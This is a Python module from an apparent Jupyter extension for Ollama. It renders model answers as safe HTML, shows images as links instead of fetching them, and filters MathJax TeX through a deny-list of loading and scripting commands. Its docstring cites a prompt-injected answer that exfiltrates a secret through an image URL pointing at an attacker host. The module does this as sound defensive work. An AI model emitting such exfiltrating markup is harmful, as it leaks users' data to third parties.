"""Answers as safe HTML (the static record and the live view), and the one-line status.
Pure functions of plain values: nothing here knows `OllamaResult`.

JupyterLab renders the running session's HTML and Markdown outputs without sanitising
them, so model output must never reach the page as markup. The answer is rendered from
Markdown with raw HTML disabled: `<script>` in prose shows as text, while code blocks
keep their `<` readable (a naive `&lt;` pass would show entities inside code).

Maths: JupyterLab 4 and Notebook 7 run MathJax over every HTML output, and MathJax takes
any `$…$` for maths ("$5 and $10" became italic "5and10"). So the answer sits in an
element MathJax ignores (`mathjax_ignore`; `tex2jax_ignore` for older MathJax), and only
the maths that mdit-py-plugins found by Pandoc's dollar rules (or as `$$…$$`, `\\(…\\)`,
`\\[…\\]`) goes out, re-delimited as `\\(…\\)` / `\\[…\\]`, in elements MathJax processes.

No remote content: an answer is untrusted (a prompt-injected answer may write
`![](https://attacker/?q=secret)`), so no image in it is ever fetched. A Markdown image,
and an `<img>` tag written in prose, show as a link with their alt text. Maths that could
make MathJax load or run something (`\\href{javascript:…}`, `\\style`, macro definitions, …)
is shown as its TeX source instead of being typeset.
"""

from __future__ import annotations

import base64
import functools
import html
import re
from collections.abc import Sequence
from typing import Any, Protocol

from markdown_it import MarkdownIt
from markdown_it.rules_block import StateBlock
from markdown_it.rules_inline import StateInline
from markdown_it.token import Token
from mdit_py_plugins.dollarmath import dollarmath_plugin
from mdit_py_plugins.texmath import texmath_plugin
from mdit_py_plugins.texmath.index import make_inline_func

from ._highlight import CODE_CLASS, CODE_CSS, highlight

PLAIN_LIMIT = 64 * 1024  # a record's text/plain copy beyond this shows its head only
PLAIN_HEAD = 4 * 1024
STATUS_STYLE = (
    "color: var(--jp-ui-font-color2, #666); font-size: var(--jp-ui-font-size1, 13px);"
    " font-family: var(--jp-ui-font-family, sans-serif); line-height: 24px; height: 24px;"
    " margin: 0 0 4px 0; white-space: nowrap; overflow: hidden; text-overflow: ellipsis;"
    " font-variant-numeric: tabular-nums"
)
# MathJax 3.2+/4 and MathJax 2 / 3.0 class names: text is skipped, maths is typeset.
NO_MATH = "mathjax_ignore tex2jax_ignore"
MATH = "mathjax_process tex2jax_process"
# Blocks nested deeper than this are shown as text: markdown-it stops parsing at its
# nesting limit (20) and silently drops the rest of the document.
MAX_BLOCK_DEPTH = 16


_DISPLAY_INLINE: Any = {
    "name": "math_display_inline",
    "rex": re.compile(r"^\\\[(.+?)\\\]", re.DOTALL),
    "tmpl": "",
    "tag": "\\[",
}


class Answer(Protocol):
    """What a record shows: any object with these (an `OllamaResult`)."""

    @property
    def text(self) -> str: ...

    @property
    def thinking(self) -> str: ...

    @property
    def status(self) -> str: ...


def _math_inline(_renderer: Any, tokens: Sequence[Token], idx: int, *_: Any) -> str:
    tex = tokens[idx].content
    if not tex_is_safe(tex):
        return f"<code>{html.escape(tex)}</code>"
    return f'<span class="math {MATH}">\\({html.escape(tex)}\\)</span>'


def _math_display_inline(_renderer: Any, tokens: Sequence[Token], idx: int, *_: Any) -> str:
    tex = tokens[idx].content
    if not tex_is_safe(tex):
        return f"<code>{html.escape(tex)}</code>"
    return f'<span class="math {MATH}">\\[{html.escape(tex)}\\]</span>'


def _math_block(_renderer: Any, tokens: Sequence[Token], idx: int, *_: Any) -> str:
    tex = tokens[idx].content.strip()
    if not tex_is_safe(tex):
        return f"<pre><code>{html.escape(tex)}</code></pre>\n"
    return f'<div class="math {MATH}">\\[{html.escape(tex)}\\]</div>\n'


# TeX that MathJax (with the extensions JupyterLab autoloads) turns into a link, CSS, an
# attribute or a download: `\\style{background:url(…)}`, `\\mmlToken{mi}[href="…"]`,
# `\\require{…}`; and macro definitions, which could assemble an `\\href` from pieces.
_TEX_UNSAFE = re.compile(
    r"\\(?:(?:style|class|cssId|data|require|mmlToken|url|def|gdef|edef|xdef|let|futurelet"
    r"|newcommand|renewcommand|providecommand|newenvironment|renewenvironment"
    r"|DeclareMathOperator|Newextarrow)(?![A-Za-z])|bbox\s*\[[^\]]*:)"
)
_TEX_HREF = re.compile(r"\\href(?![A-Za-z])\s*")
_SAFE_URL = re.compile(r"(?:https?|mailto):|[^:]*(?:[/?#]|$)", re.IGNORECASE)
_URL_IGNORED = re.compile(r"[\x00-\x20\x7f]")  # browsers drop these from a URL's scheme


def tex_is_safe(tex: str) -> bool:
    """Whether MathJax may typeset `tex`: nothing in it can load, style or run anything,
    and each `\\href` goes to a web, mail or relative address."""
    if _TEX_UNSAFE.search(tex):
        return False
    for match in _TEX_HREF.finditer(tex):
        url = _braced(tex, match.end())
        if url is None or not _SAFE_URL.match(_URL_IGNORED.sub("", url)):
            return False
    return True


def _braced(tex: str, at: int) -> str | None:
    """The text of the `{…}` group that starts at `at`, or None if none does."""
    if not tex.startswith("{", at):
        return None
    depth, i = 0, at
    while i < len(tex):
        if tex[i] == "\\":
            i += 2  # an escaped brace does not count
            continue
        depth += {"{": 1, "}": -1}.get(tex[i], 0)
        if depth == 0:
            return tex[at + 1 : i]
        i += 1
    return None


# `<img …>` written in prose (raw HTML is otherwise shown as text): its src and alt.
_IMG_TAG = re.compile(r"<img(?=[\s/>])([^<>]*)>", re.IGNORECASE)
_ATTRIBUTE = re.compile(
    r"""([^\s"'<>/=]+)(?:\s*=\s*(?:"([^"]*)"|'([^']*)'|([^\s"'=<>`]+)))?""", re.IGNORECASE
)


def _img_tag(state: StateInline, silent: bool) -> bool:
    """An `<img>` tag in prose, as an image token (shown as a link, like `![alt](src)`)."""
    match = _IMG_TAG.match(state.src, state.pos)
    if match is None:
        return False
    attributes: dict[str, str] = {}
    for attribute in _ATTRIBUTE.finditer(match.group(1)):
        value = next((v for v in attribute.group(2, 3, 4) if v is not None), "")
        attributes.setdefault(attribute.group(1).lower(), html.unescape(value))
    src = state.md.normalizeLink(attributes.get("src", "").strip())
    if not src or not state.md.validateLink(src):
        return False  # left as text
    if not silent:
        token = state.push("image", "img", 0)
        token.attrs = {"src": src}
        if attributes.get("title"):
            token.attrs["title"] = attributes["title"]
        token.content = attributes.get("alt", "")
        token.children = []
    state.pos = match.end()
    return True


def _image_as_link(renderer: Any, tokens: Sequence[Token], idx: int, options: Any, env: Any) -> str:
    """An image in an answer is never fetched: its alt text, as a link to it (outside a
    link; inside one, the alt text alone, as links cannot nest)."""
    token = tokens[idx]
    alt = token.content
    if token.children:
        alt = renderer.renderInlineAsText(token.children, options, env)
    alt = html.escape(alt.strip() or "image")
    if _inside_link(tokens, idx):
        return alt
    src = str(token.attrs.get("src", ""))
    title = str(token.attrs.get("title", "") or f"image, not loaded: {src}")
    return (
        f'<a class="ollama-nb-image" href="{html.escape(src)}" title="{html.escape(title)}">'
        f"{alt}</a>"
    )


def _inside_link(tokens: Sequence[Token], idx: int) -> bool:
    depth = 0
    for token in tokens[:idx]:
        depth += {"link_open": 1, "link_close": -1}.get(token.type, 0)
    return depth > 0


def _code_block(_renderer: Any, tokens: Sequence[Token], idx: int, *_: Any) -> str:
    return highlight(tokens[idx].content, "") + "\n"


def _table_cell(renderer: Any, tokens: Sequence[Token], idx: int, options: Any, env: Any) -> str:
    # As Jupyter's Markdown aligns them: as the table says, else left (an HTML output's
    # cells are right-aligned by JupyterLab's stylesheet; an inline style wins over it).
    token = tokens[idx]
    if not token.attrGet("style"):
        token.attrSet("style", "text-align: left")
    return renderer.renderToken(tokens, idx, options, env)  # type: ignore[no-any-return]


@functools.lru_cache(maxsize=1)
def _markdown() -> MarkdownIt:
    # "html": False turns raw HTML into text; markdown-it also refuses javascript: links.
    md = MarkdownIt("commonmark", {"html": False, "highlight": highlight})
    md.enable(["table", "strikethrough"])
    # Pandoc's rules: no space inside the dollars, no digit right after the closing one.
    md.use(dollarmath_plugin, allow_space=False, allow_digits=False, double_inline=True)
    md.use(texmath_plugin, delimiters="brackets")  # \(…\), and \[…\] as a block
    # \[…\] inside a paragraph too ("is:\n\\[\nE=mc^2\n\\]\nwhere", as models write it).
    md.inline.ruler.before("escape", "math_display_inline", make_inline_func(_DISPLAY_INLINE))
    md.add_render_rule("math_inline", _math_inline)
    for name in ("math_inline_double", "math_display_inline"):
        md.add_render_rule(name, _math_display_inline)
    for name in ("math_block", "math_block_label", "math_block_eqno", "math_double"):
        md.add_render_rule(name, _math_block)
    md.inline.ruler.before("autolink", "img_tag", _img_tag)
    md.add_render_rule("image", _image_as_link)
    md.add_render_rule("code_block", _code_block)  # indented code looks like fenced code
    for name in ("th_open", "td_open"):
        md.add_render_rule(name, _table_cell)
    md.block.tokenize = functools.partial(_tokenize_within_depth, md.block.tokenize)  # type: ignore[method-assign]
    return md


def _tokenize_within_depth(tokenize: Any, state: StateBlock, start: int, end: int) -> None:
    """The block parser, except that what lies too deep to parse is kept as a paragraph
    of text (its list markers and all) instead of being dropped with all that follows."""
    if state.level < MAX_BLOCK_DEPTH:
        tokenize(state, start, end)
        return
    # The lines a nested parse would take: up to one indented less than this block.
    line = last = start
    while line < end:
        if not state.isEmpty(line):
            if state.sCount[line] < state.blkIndent:
                break
            last = line + 1
        line += 1
    text = state.getLines(start, last, state.blkIndent, False).strip()
    if text:
        state.push("paragraph_open", "p", 1).map = [start, last]
        inline = state.push("inline", "", 0)
        inline.content, inline.map, inline.children = text, [start, last], []
        state.push("paragraph_close", "p", -1)
    state.line = last


def markdown_html(text: str) -> str:
    """Markdown as inert HTML; only the maths in it is left for MathJax."""
    return f'<div class="{NO_MATH}">{_markdown().render(text)}</div>'


def format_seconds(seconds: float) -> str:
    return f"{seconds:.1f} s"


def status_line(
    model: str,
    reason: str,
    tokens: int,
    tokens_per_second: float | None,
    elapsed: float,
) -> str:
    parts = [model, reason, f"{tokens} token{'' if tokens == 1 else 's'}"]
    if tokens_per_second is not None:
        parts.append(f"{tokens_per_second:.1f} tokens/s")
    parts.append(format_seconds(elapsed))
    return " · ".join(parts)


def replayed_note(recorded_at: str | None, model: str) -> str:
    """What a replayed answer's status line adds: when (ISO 8601, UTC, as the cache file
    has it) and with which model it was recorded."""
    return f" · replayed (recorded {recorded_at or 'earlier'} with {model})"


def record_html(answer: Answer, label: str = "") -> str:
    """The record: the status line on top, where the live view's header was (so that the
    answer does not move when it ends), then the images sent, thinking, the answer (none
    when nothing arrived: an error's box then follows the status line).
    `label` (a `prompt_label`) starts the status line: the Python API's records say what
    they answer, so that a loop of calls can be told apart."""
    pieces = ['<div class="ollama-nb-record">', status_html(answer.status, label)]
    attached = context_line(answer)
    if attached:  # what --context attached: named in the header, under the status line
        pieces.append(context_html(attached))
    images = getattr(answer, "images", None)  # thumbnails of the images sent (_images)
    if images:
        pieces.append(thumbnails_html(images))
    calls = tool_call_lines(answer)
    if calls:
        items = "".join(f"<li><code>{html.escape(line)}</code></li>" for line in calls)
        pieces.append(
            f'<div class="ollama-nb-tools {NO_MATH}"><b>Tool calls</b>'
            f'<ol style="margin: 0.2em 0 0.4em 0">{items}</ol></div>'
        )
    if answer.thinking:
        pieces.append(
            f'<details class="{THINKING_CLASS}"><summary>Thinking</summary>'
            f'<div class="ollama-nb-thinking">{markdown_html(answer.thinking)}</div></details>'
        )
    if answer.text or not getattr(answer, "error", None):
        pieces.append(f'<div class="ollama-nb-answer">{markdown_html(answer.text)}</div>')
    code_note = getattr(answer, "code_note", "")  # --code: where the code went (_code)
    if code_note:
        pieces.append(
            f'<div class="ollama-nb-code {NO_MATH}" style="{STATUS_STYLE}">'
            f"{html.escape(code_note)}</div>"
        )
    pieces.append("</div>")
    record = "".join(pieces)
    if answer.thinking or CODE_CLASS in record:  # the stylesheet only where it is used
        return record.replace(">", f">{record_css()}", 1)
    return record


def status_html(status: str, label: str = "") -> str:
    """One muted line, as tall as the live view's header row it takes the place of."""
    escaped = label_html(label) + html.escape(status)
    return f'<div class="ollama-nb-status {NO_MATH}" style="{STATUS_STYLE}">{escaped}</div>'


PROMPT_CHARS = 48  # a prompt shown in a status line is cut to this many characters
PROMPT_STYLE = "color: var(--jp-ui-font-color1, #333)"


def prompt_label(prompt: str) -> str:
    """A prompt on one line, shortened, in quotes: `“What is 2 + 2?”`."""
    flat = " ".join(prompt.split())
    short = flat if len(flat) <= PROMPT_CHARS else flat[: PROMPT_CHARS - 1] + "…"
    return f"“{short}”"


def label_html(label: str) -> str:
    """`label` set apart at the head of a status line or live header, then a separator."""
    if not label:
        return ""
    return f'<span class="ollama-nb-prompt" style="{PROMPT_STYLE}">{html.escape(label)}</span> · '


# The live view's header row and the record's status line: one height, one font, so that
# nothing below them moves when one replaces the other.
ROW_HEIGHT = "24px"
THINKING_CLASS = "ollama-nb-thinking-box"
# Thinking, collapsed, live (an ipywidgets Accordion, styled by `_view`) and in the record
# (a <details>): a muted "Thinking" line, and when open the text set off by a rule.
THINKING_CSS = (
    f".{THINKING_CLASS} > summary {{cursor: pointer; color: var(--jp-ui-font-color2, #666);"
    f" font-size: var(--jp-ui-font-size1, 13px); line-height: {ROW_HEIGHT};"
    " font-family: var(--jp-ui-font-family, sans-serif); list-style: none}"
    f".{THINKING_CLASS} > summary::-webkit-details-marker {{display: none}}"
    # One disclosure mark for both (the Accordion's own icon is hidden by `_view`).
    f".{THINKING_CLASS} > summary::before,"
    f" .{THINKING_CLASS} .jupyter-widget-Collapse-header::before,"
    f" .{THINKING_CLASS} .p-Collapse-header::before"
    " {content: '\\25B8'; display: inline-block; width: 1.1em}"
    f".{THINKING_CLASS}[open] > summary::before,"
    f" .{THINKING_CLASS} .jupyter-widget-Collapse-open .jupyter-widget-Collapse-header::before,"
    f" .{THINKING_CLASS} .p-Collapse-open .p-Collapse-header::before {{content: '\\25BE'}}"
    ".ollama-nb-thinking, .ollama-nb-live-thinking"
    " {border-left: 2px solid var(--jp-border-color2, #e0e0e0);"
    " padding-left: 10px; margin: 2px 0 8px 3px; color: var(--jp-ui-font-color2, #666)}"
)


def record_css() -> str:
    """The record's stylesheet: code colours, thinking. Where it is dropped (GitHub), code
    is uncoloured and thinking a plain <details>; the rest is styled inline."""
    return f"<style>{CODE_CSS}{THINKING_CSS}</style>"


def thumbnails_html(images: Sequence[bytes]) -> str:
    """The images sent, as static thumbnails (≤ 160 px high) that saved notebooks keep."""
    tags = "".join(
        f'<img src="data:{_image_mime(data)};base64,{base64.b64encode(data).decode()}"'
        ' alt="image sent" style="max-height: 160px; margin: 0 4px 4px 0">'
        for data in images
        if data
    )
    return f'<div class="ollama-nb-images">{tags}</div>'


def _image_mime(data: bytes) -> str:
    if data.startswith(b"\xff\xd8\xff"):
        return "image/jpeg"
    if data[:4] == b"RIFF":
        return "image/webp"
    return "image/png"


def record_text(answer: Answer) -> str:
    """The plain-text side of the record (consoles, nbval). A huge answer shows its head:
    the HTML side has it all, and a second full copy would double the notebook's size."""
    parts = []
    attached = context_line(answer)
    if attached:
        parts.append(attached)
    images = getattr(answer, "images", None)
    if images:
        parts.append(f"[{len(images)} image{'' if len(images) == 1 else 's'} sent]")
    calls = tool_call_lines(answer)
    if calls:
        parts.append("tool calls:\n" + "\n".join(f"  {i}. {c}" for i, c in enumerate(calls, 1)))
    if answer.thinking:
        parts.append(f"[thinking]\n{_head(answer.thinking)}\n[/thinking]")
    if answer.text:
        parts.append(_head(answer.text))
    parts.append(answer.status)
    code_note = getattr(answer, "code_note", "")
    if code_note:
        parts[-1] += f"\n{code_note}"
    return "\n\n".join(parts)


def context_html(line: str) -> str:
    """The `context: …` line, the same in the live view and the record."""
    escaped = html.escape(line)
    return f'<div class="ollama-nb-context {NO_MATH}" style="{STATUS_STYLE}">{escaped}</div>'


def tool_call_lines(answer: Answer) -> list[str]:
    """`name(a=1) → result` for each tool call (`_tools.ToolCall`: `shown`, `outcome`)."""
    calls = getattr(answer, "tool_calls", None) or []
    return [f"{call.shown()} {call.outcome()}" for call in calls]


def context_line(answer: Answer) -> str:
    """The record's header for --context: `context: df (DataFrame 1,000×5), …`."""
    context = getattr(answer, "context", None)  # name -> summary (_context)
    if not context:
        return ""
    return "context: " + ", ".join(f"{name} ({summary})" for name, summary in context.items())


def _head(text: str) -> str:
    if len(text) <= PLAIN_LIMIT:
        return text
    rest = len(text) - PLAIN_HEAD
    return f"{text[:PLAIN_HEAD]}… [{rest:,} more characters: print(_ollama) shows them all]"


# -- the live view: finished blocks once, the open block again ---------------------------

# An open block longer than this is cut at a line (or word) end: a code block past 4 KB
# (~100 lines), anything else past 1 KB. Each refresh re-sends the open block, so this
# bounds what a refresh costs (the elapsed/tokens labels alone cost ~1 KB).
OPEN_LIMIT = 4 * 1024
OPEN_LIMIT_TEXT = 1024
_FENCE = re.compile(r" {0,3}(`{3,}|~{3,})[^\n]*\n")
_LINE_CUT = re.compile(r"\n(?=\S)")  # the rest starts flush left: no indented code
_WORD_CUT = re.compile(r"\s+(?=\S)")


def split_finished(text: str) -> tuple[int, str]:
    """(length of the finished head of `text`, the fence line the rest must reopen).

    A top-level block is finished once another block starts after it: later text cannot
    change it. The last (open) block is cut too once it grows past its limit, so that a
    long paragraph or code block is not sent again and again: a code block at a line end
    (its head closed, its rest reopened with the same fence), anything else at a line or
    word end (the live view then shows two paragraphs; the record shows one).
    """
    tokens: list[Token] = []
    md = _markdown()
    md.block.parse(text, md, {}, tokens)
    starts = [t.map[0] for t in tokens if t.level == 0 and t.nesting >= 0 and t.map]
    end = _line_start(text, starts[-1]) if len(starts) > 1 else 0
    open_block = text[end:]
    fence = _FENCE.match(open_block)
    if len(open_block) <= (OPEN_LIMIT if fence else OPEN_LIMIT_TEXT):
        return end, ""
    # Cut at the very end when it ends a line (or a word): nothing stays open, so the
    # next refresh need not send the open block again.
    if fence:
        cut = open_block.rfind("\n", fence.end()) + 1
        return (end + cut, fence.group(0)) if cut > fence.end() else (end, "")
    if open_block[-1].isspace():
        return len(text), ""
    cuts = list(_LINE_CUT.finditer(open_block)) or list(_WORD_CUT.finditer(open_block))
    return (end + cuts[-1].end(), "") if cuts else (end, "")


def _line_start(text: str, line: int) -> int:
    at = 0
    for _ in range(line):
        at = text.index("\n", at) + 1
    return at


def close_fence(opener: str) -> str:
    """The line that closes a fenced code block opened by `opener`."""
    mark = opener.lstrip(" ")
    return mark[: len(mark) - len(mark.lstrip(mark[0]))] + "\n"


class LiveMarkdown:
    """A growing text as HTML: each finished block is rendered once, the open one again
    at each step. Keeps only the text not yet finished."""

    def __init__(self) -> None:
        self._rest = ""  # text after the finished blocks (after a reopened fence line)
        self._reopened = ""  # the fence line of a code block cut in two, if the rest is one

    def add(self, text: str) -> tuple[str, str]:
        """Append `text`; return (HTML of the blocks it finished, or "", the open block's
        HTML, or "" when nothing is open)."""
        self._rest += text
        end, reopen = split_finished(self._reopened + self._rest)
        finished = ""
        if end:
            head = (self._reopened + self._rest)[:end]
            if reopen:
                head += close_fence(reopen)
            finished = markdown_html(head)
            self._rest = (self._reopened + self._rest)[end:]
            self._reopened = reopen
        if not self._rest.strip():  # an empty code block would show as an empty box
            return finished, ""
        return finished, markdown_html(self._reopened + self._rest)
